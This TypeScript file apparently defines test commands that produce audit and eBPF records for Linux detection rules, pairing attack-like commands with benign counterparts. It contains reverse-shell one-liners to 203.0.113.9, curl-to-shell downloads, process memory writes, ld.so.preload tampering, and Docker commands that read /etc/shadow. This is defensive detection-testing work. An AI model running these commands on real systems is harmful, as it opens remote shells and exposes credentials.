// Behaviours of which a sensor's records are evidence for rules: where a piece lies, and what is done for it. `npx tsx
// scripts/record-evidence.ts` records them; recorder.ts says in what place.
import { behaviours, benign } from './behaviours.ts'
import type { RecordingSensor } from './recorder.ts'
import { recordedUser } from './shell.ts'

export interface Piece {
  /** Folder of the rule below content/rules/linux. */
  readonly rule: string
  /** The file below it. */
  readonly file: string
  readonly command: string
  /** Programs that it needs. */
  readonly needs?: readonly string[]
  readonly sensor: RecordingSensor
  /** It writes a file of the system for a moment: only who asks for it by name gets that. */
  readonly leavesItsPlace?: true
}

type More = Partial<Pick<Piece, 'needs' | 'sensor' | 'leavesItsPlace'>> & {
  readonly name?: string
}

function piece(
  kind: 'fires' | 'silent',
  rule: string,
  command: string,
  { name, sensor = 'audit', ...more }: More,
): Piece {
  const ending = sensor === 'audit' ? 'log' : 'jsonl'
  const file = `${kind}/recorded${name ? `-${name}` : ''}.${ending}`
  return { rule, file, command, sensor, ...more }
}

export const kindOf = ({ file }: Piece) =>
  file.startsWith('fires') ? 'fires' : 'silent'

const fires = (rule: string, command: string, more: More = {}) =>
  piece('fires', rule, command, more)
const silent = (rule: string, command: string, more: More = {}) =>
  piece('silent', rule, command, more)

/** One of the behaviours that sensors are tested with. */
function known(name: string): string {
  const found = [...behaviours, ...benign].find((b) => b.name === name)
  if (!found) throw new Error(`no behaviour is called "${name}"`)
  return found.command
}

/** base64 of "id". */
const encoded = 'aWQK'

const dbus: readonly Piece[] = [
  fires(
    'dbus/bus-name-claimed-from-command-line',
    'busctl --address=unix:path=/run/dbus/system_bus_socket call org.freedesktop.DBus /org/freedesktop/DBus org.freedesktop.DBus RequestName su net.acme.Helper 0',
    { needs: ['busctl'] },
  ),
  silent(
    'dbus/bus-name-claimed-from-command-line',
    'busctl --address=unix:path=/run/dbus/system_bus_socket list',
    { needs: ['busctl'], name: 'names-listed' },
  ),
  fires(
    'dbus/bus-reached-by-interpreter-of-service-account',
    `as 33 perl -MIO::Socket::UNIX -e 'IO::Socket::UNIX->new("/run/dbus/system_bus_socket")'`,
  ),
  silent(
    'dbus/bus-reached-by-interpreter-of-service-account',
    `as 1000 perl -MIO::Socket::UNIX -e 'IO::Socket::UNIX->new("/run/dbus/system_bus_socket")'`,
    { name: 'person' },
  ),
  fires(
    'dbus/privileged-account-service-called',
    'DBUS_SYSTEM_BUS_ADDRESS=unix:path=/run/dbus/system_bus_socket as 1000 dbus-send --system --dest=org.freedesktop.Accounts --type=method_call --print-reply /org/freedesktop/Accounts org.freedesktop.Accounts.CreateUser string:adm string:adm int32:1',
    { needs: ['dbus-send'] },
  ),
  fires(
    'dbus/program-started-by-bus-address',
    'as 1000 busctl --address=unixexec:path=/bin/sh,argv1=-c,argv2=id list',
    { needs: ['busctl'] },
  ),
  fires(
    'dbus/service-or-policy-file-written',
    `f=/etc/dbus-1/system.d/net.acme.t1559.conf; [ -e $f ] || { printf '<busconfig/>\\n' >$f; rm $f; }`,
    { leavesItsPlace: true },
  ),
  fires('dbus/systemd-driven-over-bus', known('systemd driven over a bus'), {
    needs: ['dbus-daemon', 'dbus-send'],
  }),
  silent('dbus/systemd-driven-over-bus', known('names asked of a bus'), {
    needs: ['dbus-daemon', 'dbus-send'],
    name: 'names-asked',
  }),
  fires(
    'dbus/unit-run-by-service-account',
    'as 33 systemd-run --user /bin/sh -c "sleep 1"',
    { needs: ['systemd-run'], sensor: 'ebpf' },
  ),
  fires(
    'dbus/bus-daemon-starts-interpreter',
    `mkdir -p data/dbus-1/services; printf '[D-BUS Service]\\nName=net.acme.Helper\\nExec=/bin/sh -c "exec sleep 1"\\n' >data/dbus-1/services/helper.service; XDG_DATA_HOME=$PWD/data dbus-daemon --session --address=unix:path=$PWD/bus --nofork --nopidfile & B=$!; while [ ! -S bus ]; do sleep 0.1; done; DBUS_SESSION_BUS_ADDRESS=unix:path=$PWD/bus dbus-send --session --print-reply --reply-timeout=500 --dest=net.acme.Helper / net.acme.Helper.Do; kill $B; wait; rm -r data`,
    { sensor: 'ebpf', needs: ['dbus-daemon', 'dbus-send'] },
  ),
]

const pipes: readonly Piece[] = [
  fires(
    'pipe/core-dumps-piped-into-program',
    // By one who may not: the kernel keeps what it has.
    `as 1000 bash -c 'echo "|/tmp/t1559/x %p" > /proc/sys/kernel/core_pattern'`,
  ),
  fires(
    'pipe/decoded-text-piped-into-interpreter',
    `bash -c 'echo ${encoded} | base64 -d | sh'`,
  ),
  silent(
    'pipe/decoded-text-piped-into-interpreter',
    `bash -c 'echo ${encoded} | base64 -d >/tmp/t1559/text; cat /tmp/t1559/text'`,
    { name: 'kept' },
  ),
  fires(
    'pipe/download-beside-shell-from-pipe',
    'curl -fsS http://203.0.113.9/x.sh | sh',
    { needs: ['curl'] },
  ),
  fires(
    'pipe/download-piped-into-shell',
    `as 33 bash -c 'curl -s http://203.0.113.9:8080/p.sh | bash'`,
    { needs: ['curl'] },
  ),
  fires(
    'pipe/download-piped-into-shell',
    `as 33 bash -c 'source <(curl -s http://203.0.113.9:8080/p.sh)'`,
    { needs: ['curl'], name: 'sourced' },
  ),
  silent(
    'pipe/download-piped-into-shell',
    `bash -c 'curl -s http://203.0.113.9:8080/p.sh | grep -c id'`,
    { needs: ['curl'], name: 'searched' },
  ),
  fires('pipe/fifo-in-shared-folder', known('a FIFO with two ends')),
  silent(
    'pipe/fifo-in-shared-folder',
    'mkdir -p /srv/app && mkfifo /srv/app/in && rm -r /srv/app',
    { name: 'elsewhere' },
  ),
  fires(
    'pipe/fifo-shell',
    `sh -c 'rm -f /tmp/t1559/q; mkfifo /tmp/t1559/q; cat /tmp/t1559/q | sh -i 2>&1 | nc -w 1 203.0.113.9 4444 >/tmp/t1559/q'`,
    { needs: ['nc'] },
  ),
  fires(
    'pipe/hidden-script-from-temporary-folder',
    `echo id >/tmp/t1559/.u.sh; /bin/sh /tmp/t1559/.u.sh`,
  ),
  fires(
    'pipe/installer-piped-into-shell',
    // A person, whose number is that of the login; the name leads nowhere in this network.
    `as ${recordedUser} bash -c 'curl -m 1 -sSf https://get.tool.example/install.sh | sh'`,
    { needs: ['curl'] },
  ),
  fires(
    'pipe/interpreter-shell-on-socket',
    `/usr/bin/python3 -c 'import socket,os,subprocess;s=socket.create_connection(("203.0.113.9",4444));[os.dup2(s.fileno(),n) for n in (0,1,2)];subprocess.call(["/bin/sh","-i"])'`,
    { needs: ['python3'] },
  ),
  silent(
    'pipe/interpreter-shell-on-socket',
    `/usr/bin/python3 -c 'import socket;s=socket.create_connection(("203.0.113.9",4444));print(s.recv(64))'`,
    { needs: ['python3'], name: 'greeting-read' },
  ),
  fires(
    'pipe/network-program-at-one-end-of-a-fifo',
    'mkfifo /tmp/t1559/b; sh -i </tmp/t1559/b 2>&1 | nc -w 1 203.0.113.9 443 >/tmp/t1559/b; rm /tmp/t1559/b',
    { needs: ['nc'] },
  ),
  fires(
    'pipe/shell-given-by-socat',
    'socat TCP:203.0.113.9:4242 EXEC:/bin/sh,stderr',
    { needs: ['socat'] },
  ),
  fires(
    'pipe/shell-on-network-descriptor',
    `bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'`,
  ),
  silent(
    'pipe/shell-on-network-descriptor',
    `bash -c '(: </dev/tcp/203.0.113.9/80) && echo up'`,
    { name: 'port-tried' },
  ),
  fires(
    'pipe/shell-with-network-streams',
    known('a shell that a FIFO and a connection hold'),
    { sensor: 'ebpf', needs: ['node', 'mkfifo'] },
  ),
  silent(
    'pipe/shell-with-network-streams',
    known('a child of node, whose streams are sockets'),
    { sensor: 'ebpf', needs: ['node'], name: 'child-of-node' },
  ),
]

const victim = 'sleep 5 & V=$!'

const access: readonly Piece[] = [
  fires(
    'process-access/attach-across-users',
    `setpriv --reuid=65534 --regid=65534 --clear-groups ${victim}; sleep 0.1; timeout 1 strace -qq -p $V; kill $V`,
    { needs: ['strace'] },
  ),
  silent(
    'process-access/attach-across-users',
    `${victim}; timeout 1 strace -qq -p $V; kill $V`,
    { needs: ['strace'], name: 'own' },
  ),
  fires(
    'process-access/attached-by-program-from-writable-place',
    known('a process that is seized'),
  ),
  fires(
    'process-access/code-called-in-other-process',
    `${victim}; gdb -q -nx -batch -p $V -ex 'call (int)system("true")' -ex detach; kill $V`,
    { needs: ['gdb'] },
  ),
  silent(
    'process-access/code-called-in-other-process',
    `${victim}; gdb -q -nx -batch -p $V -ex bt -ex detach; kill $V`,
    { needs: ['gdb'], name: 'backtrace' },
  ),
  fires(
    'process-access/core-taken-from-running-process',
    `${victim}; gcore -o /tmp/t1559/core $V; kill $V; rm -f /tmp/t1559/core*`,
    { needs: ['gcore'] },
  ),
  fires(
    'process-access/credential-process-attached',
    `ssh-agent -a own.sock -d & A=$!; sleep 0.3; timeout 1 strace -qq -p $A; kill $A; wait`,
    { needs: ['ssh-agent', 'strace'] },
  ),
  fires(
    'process-access/descriptor-taken-from-other-process',
    known('a descriptor taken out of another process'),
  ),
  fires(
    'process-access/input-followed-by-strace',
    `${victim}; timeout 1 strace -qq -f -p $V -e trace=read,write -o /tmp/t1559/trace -s 256; kill $V`,
    { needs: ['strace'] },
  ),
  fires(
    'process-access/memory-file-written-by-command',
    `${victim}; bash -c "printf x > /proc/$V/mem"; kill $V`,
  ),
  fires(
    'process-access/memory-of-another-process-written',
    known('memory of another process written at once'),
    { name: 'at-once' },
  ),
  fires(
    'process-access/memory-of-another-process-written',
    known('memory of another process written as a file'),
    { name: 'as-file' },
  ),
  silent(
    'process-access/memory-of-another-process-written',
    known('a debugger on a child of its own'),
    { needs: ['gdb'], name: 'debugger' },
  ),
  fires(
    'process-access/memory-read-by-command',
    `${victim}; dd if=/proc/$V/mem of=/tmp/t1559/dump bs=1 count=16 skip=$((0x$(head -1 /proc/$V/maps | cut -d- -f1))); kill $V`,
  ),
  fires(
    'process-access/process-attached-then-written',
    known('a process that is attached to and written'),
  ),
  silent(
    'process-access/process-attached-then-written',
    known('a debugger on a child of its own'),
    { needs: ['gdb'], name: 'debugger' },
  ),
]

const scripts: readonly Piece[] = [
  fires(
    'script/management-command-outside-of-maintenance',
    // It changes nothing: there is no such user.
    `bash -c 'usermod -s /bin/bash t1559; true'`,
    { needs: ['usermod'] },
  ),
  fires(
    'script/root-script-outside-of-maintenance',
    `echo id >/root/fix.sh; bash -c 'sh /root/fix.sh; true'`,
  ),
  fires(
    'script/script-written-then-run-from-writable-place',
    `echo ${encoded} | base64 -d >/tmp/t1559/x.sh; sh /tmp/t1559/x.sh`,
  ),
]

const memory: readonly Piece[] = [
  fires(
    'shared-memory/library-preloaded-from-writable-place',
    'cp /lib/*-linux-gnu*/libm.so.6 /tmp/t1559/l.so; env LD_PRELOAD=/tmp/t1559/l.so /bin/true',
  ),
  fires(
    'shared-memory/memory-file-by-script',
    `/usr/bin/python3 -c 'import os;f=os.memfd_create("k");os.write(f,open("/bin/true","rb").read());os.execve("/proc/self/fd/%d"%f,["k"],{})'`,
    { needs: ['python3'] },
  ),
  silent(
    'shared-memory/memory-file-by-script',
    `/usr/bin/python3 -c 'import os;f=os.memfd_create("k");os.write(f,b"x"*64);print(os.fstat(f).st_size)'`,
    { needs: ['python3'], name: 'data-kept' },
  ),
  fires(
    'shared-memory/preload-file-written',
    'f=/etc/ld.so.preload; [ -e $f ] || { : >$f; rm $f; }',
    { leavesItsPlace: true },
  ),
  fires(
    'shared-memory/program-from-memory',
    known('a program that lies in memory alone'),
  ),
  fires(
    'shared-memory/program-from-shared-memory-folder',
    'cp /bin/true /dev/shm/t1559; /dev/shm/t1559; rm /dev/shm/t1559',
  ),
  silent(
    'shared-memory/program-from-shared-memory-folder',
    'echo data >/dev/shm/t1559; cat /dev/shm/t1559; rm /dev/shm/t1559',
    { name: 'data' },
  ),
  fires(
    'shared-memory/segment-open-to-everyone',
    known('a segment of shared memory that everybody may write'),
  ),
]

const sockets: readonly Piece[] = [
  fires(
    'unix-socket/agent-process-of-another-user',
    known('the SSH agent of another user'),
    { sensor: 'ebpf', needs: ['setpriv', 'ssh-agent', 'ssh-add'] },
  ),
  silent(
    'unix-socket/agent-process-of-another-user',
    known('the agent of the same user'),
    { sensor: 'ebpf', needs: ['ssh-agent', 'ssh-add'], name: 'own' },
  ),
  fires(
    'unix-socket/agent-socket-of-another-user',
    'eval "$(as 65534 ssh-agent)"; ssh-add -l; kill $SSH_AGENT_PID',
    { needs: ['ssh-agent', 'ssh-add'] },
  ),
  silent(
    'unix-socket/agent-socket-of-another-user',
    'eval "$(as 65534 ssh-agent)"; as 65534 ssh-add -l; kill $SSH_AGENT_PID',
    { needs: ['ssh-agent', 'ssh-add'], name: 'own' },
  ),
  fires(
    'unix-socket/agent-socket-of-another-user',
    'mkdir -p /home/ana/.ssh; chown -R 65534 /home/ana; setpriv --reuid=65534 --regid=65534 --clear-groups ssh-agent -D -a /home/ana/.ssh/agent.sock & A=$!; sleep 0.3; SSH_AUTH_SOCK=/home/ana/.ssh/agent.sock ssh-add -l; kill $A; rm -r /home/ana',
    { needs: ['ssh-agent', 'ssh-add'], name: 'elsewhere' },
  ),
  silent(
    'unix-socket/agent-socket-of-another-user',
    'eval "$(ssh-agent)"; ssh-add -l; kill $SSH_AGENT_PID',
    { needs: ['ssh-agent', 'ssh-add'], name: 'of-root' },
  ),
  fires(
    'unix-socket/calls-of-two-architectures',
    known('a connection by the calls of a 32-bit program'),
  ),
  fires(
    'unix-socket/client-name-that-lies',
    `/usr/bin/python3 -c 'import socket;s=socket.socket(socket.AF_UNIX);s.bind("\\0sock;uid=0;");s.connect("/run/snapd.socket")'`,
    { needs: ['python3'] },
  ),
  fires(
    'unix-socket/container-runtime-reached',
    known("a container runtime's socket reached"),
    { name: 'own-program' },
  ),
  fires(
    'unix-socket/container-runtime-reached',
    'as 33 curl -s --unix-socket /run/docker.sock http://x/containers/json',
    { needs: ['curl'], name: 'curl' },
  ),
  silent(
    'unix-socket/container-runtime-reached',
    'curl -s --unix-socket /run/docker.sock http://localhost/version',
    { needs: ['curl'], name: 'health-check' },
  ),
  fires(
    'unix-socket/container-runtime-reached-by-other-program',
    'mkdir -p /srv/bin; cp ipc /srv/bin/ctl; /srv/bin/ctl hold /run/containerd/containerd.sock & sleep 0.3; kill $!; rm -r /srv/bin',
  ),
  fires(
    'unix-socket/container-shim-reached',
    `/usr/bin/python3 -c 'import socket;s=socket.socket(socket.AF_UNIX);s.connect("\\0/containerd-shim/k8s.io/1f2e/shim.sock")'`,
    { needs: ['python3'] },
  ),
  fires(
    'unix-socket/container-started-as-root-for-a-user',
    // A server stands in for Podman: it runs a program when it is asked to.
    `mkdir /run/podman; perl -MIO::Socket::UNIX -e '$s=IO::Socket::UNIX->new(Local=>"/run/podman/podman.sock",Listen=>1);chmod 0666,"/run/podman/podman.sock";$c=$s->accept;<$c>;system("/bin/sh","-c","sleep 0.1");print $c "HTTP/1.0 204 No Content\\r\\n\\r\\n"' & while [ ! -S /run/podman/podman.sock ]; do sleep 0.1; done; as 33 curl -s --unix-socket /run/podman/podman.sock -X POST http://x/containers/4f1/start; wait`,
    { needs: ['curl', 'perl'] },
  ),
  fires('unix-socket/descriptor-passed-across-users', './ipc hand', {
    sensor: 'ebpf',
  }),
  silent(
    'unix-socket/descriptor-passed-across-users',
    known('a descriptor that is passed'),
    { sensor: 'ebpf', name: 'own-child' },
  ),
  fires(
    'unix-socket/host-folder-given-to-container',
    'docker run --rm --mount type=bind,source=/,target=/mnt alpine cat /mnt/etc/shadow',
    { needs: ['docker'] },
  ),
  fires(
    'unix-socket/io-uring-in-writable-place',
    known('a connection by io_uring'),
  ),
  fires(
    'unix-socket/listener-from-writable-place',
    known('a listener without a file'),
  ),
  fires(
    'unix-socket/privileged-container-asked-for',
    'docker -H unix:///run/docker.sock run --rm -v /:/host --privileged alpine chroot /host sh',
    { needs: ['docker'] },
  ),
  silent(
    'unix-socket/privileged-container-asked-for',
    'docker -H unix:///run/docker.sock ps',
    { needs: ['docker'], name: 'list' },
  ),
  fires(
    'unix-socket/privileged-pod-asked-for',
    `timeout 2 kubectl --server=http://203.0.113.9:8080 run r --image=alpine '--overrides={"spec":{"hostPID":true,"containers":[{"name":"r","image":"alpine","securityContext":{"privileged":true}}]}}'`,
    { needs: ['kubectl'] },
  ),
  fires(
    'unix-socket/privileged-service-spoken-to-by-hand',
    'as 1000 curl -s --unix-socket /run/snapd.socket http://localhost/v2/snaps',
    { needs: ['curl'] },
  ),
  silent(
    'unix-socket/privileged-service-spoken-to-by-hand',
    'curl -s --unix-socket /run/docker.sock http://localhost/_ping',
    { needs: ['curl'], name: 'health-check' },
  ),
  fires(
    'unix-socket/privileged-socket-reached-by-tool',
    'as 1000 curl -s --unix-socket /run/snapd.socket http://localhost/v2/snaps',
    { needs: ['curl'] },
  ),
  fires(
    'unix-socket/privileged-socket-reached-by-unusual-program',
    'mkdir -p /srv/bin; cp ipc /srv/bin/sync; /srv/bin/sync hold /run/docker.sock & sleep 0.3; kill $!; rm -r /srv/bin',
  ),
  fires(
    'unix-socket/raw-socket-client',
    'echo | socat - UNIX-CONNECT:/run/snapd.socket',
    { needs: ['socat'] },
  ),
  fires(
    'unix-socket/relay-tool',
    // A program under the name: what it is called is what is told.
    'cp /bin/true /tmp/t1559/kcached; /tmp/t1559/kcached client https://203.0.113.9:443 R:socks',
  ),
  fires(
    'unix-socket/terminal-or-display-of-another-user',
    'as 65534 tmux -f /dev/null new-session -d sleep 2; tmux -S /tmp/tmux-65534/default list-sessions; as 65534 tmux kill-server; rm -r /tmp/tmux-65534',
    { needs: ['tmux'] },
  ),
  silent(
    'unix-socket/terminal-or-display-of-another-user',
    'as 65534 tmux -f /dev/null new-session -d sleep 2; as 65534 tmux list-sessions; as 65534 tmux kill-server; rm -r /tmp/tmux-65534',
    { needs: ['tmux'], name: 'own-session' },
  ),
]

export const evidence: readonly Piece[] = [
  ...dbus,
  ...pipes,
  ...access,
  ...scripts,
  ...memory,
  ...sockets,
]
